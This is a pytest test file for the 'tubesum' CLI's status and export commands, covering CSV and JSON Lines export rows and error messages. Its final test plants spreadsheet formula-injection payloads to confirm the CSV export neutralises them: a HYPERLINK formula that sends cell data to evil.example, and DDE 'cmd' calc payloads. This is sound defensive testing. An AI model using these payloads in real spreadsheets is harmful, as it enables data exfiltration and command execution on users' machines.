"""`tubesum status` and `tubesum export`: counts, failures, one export row per video, clean errors."""

from __future__ import annotations

import csv
import json
from datetime import UTC, datetime
from pathlib import Path

import pytest
from typer.testing import CliRunner

from tests.factories import batch_row
from tubesum.cli import app
from tubesum.db import session_scope
from tubesum.errors import BadInput
from tubesum.models import Job, Summary, Transcript, Video
from tubesum.read.export import export_job
from tubesum.read.queries import UnknownJob, export_rows, job_status, latest_job_id

REQUIRED_COLUMNS = (
    "video_id",
    "title",
    "status",
    "error",
    "language",
    "transcript_chars",
    "summary",
    "model",
    "batch_id",
    "batch_size",
    "prompt_tokens",
    "generated_tokens",
    "batch_seconds",
    "generated_tokens_per_s",
    "queue_wait_s",
    "latency_s",
)


def make_job(url: str) -> int:
    """A job of four videos: done, fetched (no summary yet), failed, queued."""
    now = datetime.now(UTC)
    with session_scope(url) as s:
        job = Job(sources=["PL"], model="tiny/model", options={})
        done = Video(job=job, video_id="vid_done_01", title='Frogs, "quoted"\nand lines', position=0, status="done")
        fetched = Video(job=job, video_id="vid_fetch01", title="Bats", position=1, status="fetched")
        failed = Video(
            job=job,
            video_id="vid_fail_01",
            title="Private",
            position=2,
            status="failed",
            error="transcripts are disabled for this video",
        )
        queued = Video(job=job, video_id="vid_queue01", title=None, position=3)
        s.add_all([job, done, fetched, failed, queued])
        s.add(Transcript(video=done, text="x" * 1234, language="English", language_code="en"))
        s.add(Transcript(video=fetched, text="y" * 10, language="German", language_code="de"))
        batch = batch_row(id="batch-1", batch_size=3, wall_s=1.5, generated_tokens_per_s=200.0, started_at=now)
        s.add(
            Summary(
                video=done,
                batch=batch,
                text="Frogs sing, ünïcode ✓.",
                model="tiny/model",
                prompt_tokens=300,
                generated_tokens=100,
                finish_reason="stop",
                queue_wait_s=0.25,
                latency_s=4.5,
            )
        )
        s.flush()
        return job.id


def test_export_rows_one_per_video_in_order(db_url: str) -> None:
    job_id = make_job(db_url)
    with session_scope(db_url) as s:
        rows = export_rows(s, job_id)
    assert [r["video_id"] for r in rows] == ["vid_done_01", "vid_fetch01", "vid_fail_01", "vid_queue01"]
    assert set(REQUIRED_COLUMNS) <= set(rows[0])
    done, fetched, failed, queued = rows
    assert done["transcript_chars"] == 1234 and done["language"] == "English"
    assert (done["summary"], done["model"], done["batch_id"], done["batch_size"]) == (
        "Frogs sing, ünïcode ✓.",
        "tiny/model",
        "batch-1",
        3,
    )
    assert (done["prompt_tokens"], done["generated_tokens"], done["batch_seconds"]) == (300, 100, 1.5)
    assert (done["generated_tokens_per_s"], done["queue_wait_s"], done["latency_s"]) == (200.0, 0.25, 4.5)
    assert fetched["transcript_chars"] == 10 and fetched["summary"] is None and fetched["batch_id"] is None
    assert failed["status"] == "failed" and failed["error"] == "transcripts are disabled for this video"
    assert queued["transcript_chars"] is None and queued["title"] is None


def test_export_csv_round_trips(db_url: str, tmp_path: Path) -> None:
    job_id = make_job(db_url)
    out = tmp_path / "sub" / "job.csv"
    with session_scope(db_url) as s:
        assert export_job(s, job_id, out) == 4
        export_job(s, job_id, tmp_path / "job.jsonl")
    with out.open(newline="", encoding="utf-8") as f:
        rows = list(csv.DictReader(f))
    # The CSV's header is the JSON Lines' keys, in the same order, with the columns a user relies on.
    jsonl = json.loads((tmp_path / "job.jsonl").read_text(encoding="utf-8").splitlines()[0])
    assert list(rows[0]) == list(jsonl) and set(REQUIRED_COLUMNS) <= set(rows[0])
    assert list(rows[0])[:2] == ["position", "video_id"]
    assert rows[0]["title"] == 'Frogs, "quoted"\nand lines'
    assert rows[0]["generated_tokens_per_s"] == "200.0"
    assert rows[1]["summary"] == "" and rows[1]["batch_size"] == ""  # not summarised: empty
    assert not list(tmp_path.glob("sub/*.part"))


def test_export_jsonl(db_url: str, tmp_path: Path) -> None:
    job_id = make_job(db_url)
    out = tmp_path / "job.JSONL"
    with session_scope(db_url) as s:
        export_job(s, job_id, out)
    rows = [json.loads(line) for line in out.read_text(encoding="utf-8").splitlines()]
    assert len(rows) == 4
    assert rows[0]["summary"] == "Frogs sing, ünïcode ✓." and rows[0]["batch_size"] == 3
    assert rows[1]["summary"] is None


def test_bad_suffix_and_unknown_job_are_clean_errors(db_url: str, tmp_path: Path) -> None:
    job_id = make_job(db_url)
    with session_scope(db_url) as s:
        with pytest.raises(BadInput, match=r"\.csv or \.jsonl"):
            export_job(s, job_id, tmp_path / "job.xlsx")
        with pytest.raises(UnknownJob, match="no job 999"):
            export_job(s, 999, tmp_path / "job.csv")
        with pytest.raises(UnknownJob):
            job_status(s, 999)
    assert not (tmp_path / "job.xlsx").exists()


def test_status_counts_and_failures(db_url: str) -> None:
    job_id = make_job(db_url)
    with session_scope(db_url) as s:
        assert latest_job_id(s) == job_id
        status = job_status(s)  # latest job
    assert status.job_id == job_id
    assert status.counts.by_status == {"done": 1, "fetched": 1, "failed": 1, "queued": 1}
    assert [(f.video_id, f.error) for f in status.failures] == [
        ("vid_fail_01", "transcripts are disabled for this video")
    ]


def test_no_job_yet(db_url: str) -> None:
    with session_scope(db_url) as s:
        with pytest.raises(UnknownJob, match="no job"):
            latest_job_id(s)


@pytest.fixture
def cli_env(db_url: str, monkeypatch: pytest.MonkeyPatch, clear_settings_cache: None) -> str:
    monkeypatch.setenv("TUBESUM_DATABASE_URL", db_url)
    return db_url


def test_cli_status_and_export(cli_env: str, tmp_path: Path) -> None:
    job_id = make_job(cli_env)
    runner = CliRunner()
    result = runner.invoke(app, ["status"], env={"COLUMNS": "200"})
    assert result.exit_code == 0, result.output
    assert f"job {job_id}" in result.output and "transcripts are disabled" in result.output
    result = runner.invoke(app, ["status", "--all"], env={"COLUMNS": "200"})
    assert result.exit_code == 0 and "recent jobs" in result.output
    out = tmp_path / "e.jsonl"
    result = runner.invoke(app, ["export", str(job_id), "-o", str(out)])
    assert result.exit_code == 0, result.output
    assert len(out.read_text().splitlines()) == 4


@pytest.mark.parametrize(
    ("args", "message"),
    [
        (["status", "424242"], "no job 424242"),
        (["export", "424242", "-o", "x.csv"], "no job 424242"),
        (["export", "1", "-o", "x.parquet"], ".csv or .jsonl"),
    ],
)
def test_cli_errors_are_clean(cli_env: str, args: list[str], message: str) -> None:
    result = CliRunner().invoke(app, args)
    assert result.exit_code == 2
    assert message in result.output
    assert "Traceback" not in result.output


# Cells a spreadsheet would run as formulas (titles come from YouTube, summaries from the model).
FORMULAS = {
    "title": '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "summary": "+cmd|' /C calc'!A0",
    "error": "@SUM(1+1)*cmd|' /C calc'!A0",
}


def make_formula_job(url: str) -> int:
    now = datetime.now(UTC)
    with session_scope(url) as s:
        job = Job(sources=["csv:x"], model="tiny/model", options={})
        done = Video(job=job, video_id="-vidFormula", title=FORMULAS["title"], position=0, status="done")
        failed = Video(
            job=job, video_id="vidTab00001", title="\t=1+2", position=1, status="failed", error=FORMULAS["error"]
        )
        s.add_all([job, done, failed])
        batch = batch_row(id="batch-f", started_at=now)
        s.add(
            Summary(
                video=done,
                batch=batch,
                text=FORMULAS["summary"],
                model="tiny/model",
                prompt_tokens=9,
                generated_tokens=3,
                finish_reason="stop",
                queue_wait_s=-0.25,
                latency_s=1.0,
            )
        )
        s.flush()
        return job.id


def test_export_csv_neutralises_formulas_and_jsonl_stays_exact(cli_env: str, tmp_path: Path) -> None:
    """Through the real `tubesum` command: every text cell that starts like a formula gets a leading
    quote in CSV (shown as text by Excel, LibreOffice and Google Sheets); numbers stay numbers;
    JSON Lines carries the exact text."""
    import os
    import subprocess

    job_id = make_formula_job(cli_env)
    env = {**os.environ, "TUBESUM_DATABASE_URL": cli_env}
    for name in ("job.csv", "job.jsonl"):
        done = subprocess.run(
            ["tubesum", "export", str(job_id), "-o", str(tmp_path / name)],
            env=env,
            capture_output=True,
            text=True,
            timeout=60,
        )
        assert done.returncode == 0, done.stderr
    with (tmp_path / "job.csv").open(newline="", encoding="utf-8") as f:
        first, second = list(csv.DictReader(f))
    assert first["title"] == "'" + FORMULAS["title"]
    assert first["summary"].startswith("'+cmd")
    assert first["video_id"] == "'-vidFormula"
    assert second["error"].startswith("'@SUM")
    assert second["title"] == "'\t=1+2"
    assert first["queue_wait_s"] == "-0.25"  # a number, not a formula
    for row in (first, second):
        for column, value in row.items():
            assert not value or value[0] not in "=+@\t\r" and not (value[0] == "-" and column != "queue_wait_s"), (
                column,
                value,
            )
    exact = [json.loads(line) for line in (tmp_path / "job.jsonl").read_text(encoding="utf-8").splitlines()]
    assert (exact[0]["title"], exact[0]["summary"], exact[1]["error"]) == (
        FORMULAS["title"],
        FORMULAS["summary"],
        FORMULAS["error"],
    )
    assert exact[0]["video_id"] == "-vidFormula" and exact[1]["title"] == "\t=1+2"
